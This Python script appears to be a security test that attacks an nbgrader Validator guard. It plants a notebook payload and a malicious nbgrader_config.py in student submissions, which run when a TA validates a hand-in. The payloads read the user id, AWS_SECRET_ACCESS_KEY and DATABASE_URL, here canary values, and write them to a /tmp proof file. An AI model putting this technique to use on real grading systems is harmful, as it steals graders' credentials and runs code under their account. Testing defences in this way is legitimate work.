"""a14: attack 852563c's Validator guard from the command line. nbgrader loads nbgrader_config.py from the current
folder only; the guard is installed by the course's nbgrader_config.py. A TA who looks at a hand-in where it lies
(`cd submitted/mallory/ps1_memory; nbgrader validate ps1_memory.ipynb`) loads no course configuration, so no guard;
and a hand-in may carry its own nbgrader_config.py (make grade keeps only the notebook in autograded/, but
submitted/ holds what was handed in), which nbgrader then runs as Python, as the TA."""
import os, subprocess
from harness import *
PROOF = "/tmp/attack38-root-a14-proof.txt"
PAYLOAD = r'''
import os, json
open(PROOF, "a").write(json.dumps({"by": "notebook", "uid": os.getuid(), "AWS": os.environ.get("AWS_SECRET_ACCESS_KEY")}) + "\n")
'''.replace("PROOF", repr(PROOF))
CONFIG = '''import os, json
open(%r, "a").write(json.dumps({"by": "handed-in nbgrader_config.py", "uid": os.getuid(), "DATABASE_URL": os.environ.get("DATABASE_URL")}) + "\\n")
''' % PROOF
if __name__ == "__main__":
    if os.path.exists(PROOF): os.unlink(PROOF)
    d = make_course("a14")
    put(d, "aaron", solution_nb())
    nb = solution_nb()
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") == "training_memory":
            c.source = c.source + "\n" + PAYLOAD
    put(d, "mallory", nb)
    put(d, "mallory2", nb, extra={"nbgrader_config.py": CONFIG})
    put(d, "zoe", solution_nb())
    grade(d); scores(d)
    print("proof after make grade:", open(PROOF).read() if os.path.exists(PROOF) else "none")
    env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
    for who in ("mallory", "mallory2"):
        folder = f"{d}/submitted/{who}/ps1_memory"
        r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", "ps1_memory.ipynb"], cwd=folder, env=env,
                           capture_output=True, text=True, timeout=300)
        print(f"cd submitted/{who}/ps1_memory; nbgrader validate ps1_memory.ipynb -> rc {r.returncode}", (r.stdout + r.stderr).strip().splitlines()[-1:])
        print("   proof:", open(PROOF).read().strip() if os.path.exists(PROOF) else "none")
        if os.path.exists(PROOF): os.unlink(PROOF)
